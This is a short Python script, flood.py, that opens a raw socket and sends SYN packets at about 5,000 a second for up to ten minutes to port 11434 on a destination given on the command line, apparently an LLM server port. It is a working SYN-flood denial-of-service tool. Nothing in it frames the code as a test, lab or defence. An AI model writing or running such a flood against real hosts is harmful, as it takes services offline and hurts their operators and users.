# SPDX-License-Identifier: Apache-2.0
"""flood.py SOURCE DESTINATION: sends SYNs to an LLM port, about 5,000 a second, for 10 minutes at most."""
import socket
import sys
import time

from packets import SYN, packet

source, destination = sys.argv[1:]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
packets = [packet(source, destination, 30000 + i, 11434, 1000 * i, 0, SYN) for i in range(50)]
end = time.monotonic() + 600
while time.monotonic() < end:
    for one in packets:
        raw.sendto(one, (destination, 0))
    time.sleep(0.01)
